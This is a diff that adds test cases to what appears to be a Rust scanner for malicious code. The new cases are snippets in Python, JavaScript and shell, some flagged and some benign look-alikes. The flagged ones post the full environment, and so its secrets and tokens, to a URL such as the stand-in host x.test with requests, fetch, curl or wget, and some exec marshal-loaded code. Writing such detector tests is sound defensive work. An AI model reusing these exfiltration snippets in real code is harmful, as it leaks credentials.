@@ -256,6 +256,16 @@ fn the_environment_sent_away() {
             "e=os.environ; b=str(e).encode(); urlopen(url, b)",
             "e = os.environ\nbody = json.dumps({'e': dict(e)})\nraw = body.encode()\nreq = Request(url, data=raw)\nurlopen(req)",
             "e = dict(os.environ)\nq = base64.b64encode(str(e).encode())\nrequests.post(u, data=q)",
+            "from os import environ as E\nimport requests\nrequests.post(u, json=dict(E))",
+            "from os import path, environ\nrequests.post(u, json=dict(environ))",
+            "d = {k: v for k, v in os.environ.items()}\nrequests.post(u, json=d)",
+            "d = os.environ\np = '\\n'.join(f'{k}={v}' for k, v in d.items())\nrequests.post(u, data=p)",
+            "d = list(os.environ.items())\ns = requests.Session()\ns.post(u, json=d)",
+            "e = dict(os.environ)\nrequests.post(url('x'), json=e)",
+            // Only what a function or a block binds is another variable.
+            "e = dict(os.environ)\ndef f(e):\n    pass\nrequests.post(u, json=e)",
+            "e = dict(os.environ)\ndef f(e): pass\nrequests.post(u, json=e)",
+            "e = dict(os.environ)\nfor e2 in x:\n    requests.post(u, json={'e': e})",
         ],
     );
     found(
@@ -268,6 +278,8 @@ fn the_environment_sent_away() {
             "const all = JSON.stringify(process.env)\nawait axios.post(u, all)",
             "axios.post(u, process.env)",
             "const e = process.env;\nconst b = JSON.stringify(e);\nfetch(u, { method: 'POST', body: b })",
+            "const env = {...process.env};\nfetch(u, { method: 'POST', body: JSON.stringify({ env }) })",
+            "const e = {...process.env};\nif (e) { fetch(`https://x.test/?d=${e}`) }",
         ],
     );
     found(
@@ -283,6 +295,7 @@ fn the_environment_sent_away() {
             "env > /tmp/e\ncurl -F f=@/tmp/e https://x.test",
             "X=$(printenv|base64)\ncurl \"https://x.test/?d=$X\"",
             "ALL=\"$(env -0 | gzip | base64)\"\nsleep 1\necho \"$ALL\" | curl -d @- https://x.test",
+            "all=$(env)\ncurl -d \"${all}\" https://x.test/all/index.html",
             "x=`set`; y=$(echo \"$x\" | base64); wget --post-data=\"${y}\" https://x.test",
         ],
     );
@@ -294,10 +307,33 @@ fn the_environment_sent_away() {
             "e = dict(os.environ)\nprint(len(e))\nrequests.post(url, json=rows)",
             "e = os.environ; t = e['TOKEN']; requests.post(url, headers={'A': t})",
             "e = dict(os.environ)\nn = len(e)\nrequests.post(url, json=n)",
+            "env = os.environ.copy()\nsubprocess.run(['make'], env=env)\ndef deploy(url, env):\n    requests.post(url, json={'env': env})",
+            "class A:\n    def make(self):\n        env = os.environ.copy()\n        run(env=env)\n\n    def send(self, env='x'):\n        requests.post(u, json={'env': env})",
+            "e = dict(os.environ)\nmsg = str(len(e))\nrequests.post(u, json={'body': msg})\ndef fetch(e):\n    return requests.get(e)",
+            "e = dict(os.environ)\ntry:\n    run()\nexcept OSError as e:\n    requests.post(u, json={'error': str(e)})",
+            "e = dict(os.environ)\nrequests.post(u, json=[e for e in rows])",
+            "d = {k: v for k, v in os.environ.items() if k.startswith('APP_')}\nrequests.post(u, json=d)",
+            "from os import environ\nrequests.post(u, headers={'A': environ['TOKEN']})",
+            "env = os.environ.copy()\nsubprocess.run('curl https://x.test/env', env=env)",
         ],
     );
     clean("a.js", &["spawn('x', { env: { ...process.env, A: 1 } })", "fetch(process.env.URL)"]);
     clean("a.js", &["const env = process.env;\nconst url = env.URL;\nfetch(url, { body: rows })"]);
+    clean(
+        "a.js",
+        &[
+            "const env = {...process.env};\nconst r = await fetch(u, {headers: {env: \"prod\"}});",
+            "const env = {...process.env};\nfunction send(u, env) {\n  fetch(u, { body: env })\n}",
+            "const all = JSON.stringify(process.env)\nfetch('https://x.test/all/index.html')",
+        ],
+    );
+    clean(
+        "a.sh",
+        &[
+            "all=$(env)\ncase \"$all\" in *CI=true*) echo ci;; esac\ncurl -fsS https://x.test/all/index.html",
+            "env > env.txt\ncurl -o env.txt https://x.test/env.txt",
+        ],
+    );
     clean("a.sh", &["env | grep PATH", "env > env.txt", "curl https://x.test/env"]);
     clean(
         "a.sh",
@@ -326,6 +362,8 @@ fn compiled_code_in_a_text() {
             "from marshal import loads; exec(loads(data))",
             "from marshal import dumps, loads as l\nc = l(data)\n\nexec(c)",
             "from marshal import *\nexec(loads(data))",
+            "import marshal\nf = marshal.loads\nc = f(open('x', 'rb').read())\nexec(c)",
+            "from marshal import loads\nself.code = loads(data)\nexec(self.code, {})",
             "m = __import__('marshal')\ncode = m.loads(data)\ntypes.FunctionType(code, {})()",
         ],
     );
@@ -335,6 +373,9 @@ fn compiled_code_in_a_text() {
             "import marshal as m\nrows = m.loads(data)\nexecute(rows)",
             "import marshal as m\nm.dump(x, f)\nexec(open('a.py').read())",
             "from marshal import loads\nrows = loads(data)\nre.exec(rows)",
+            "from marshal import loads\ncache = loads(f.read())\nprint(eval(\"1+1\", {}, {}))",
+            "import marshal as m\ncache = m.load(f)\nexec(code)\neval(rows)",
+            "import marshal\nf = marshal.loads\nrows = f(data)\nexec(code)",
             "from marshal import dumps\nrows = json.loads(data)\nexec(code)",
         ],
     );
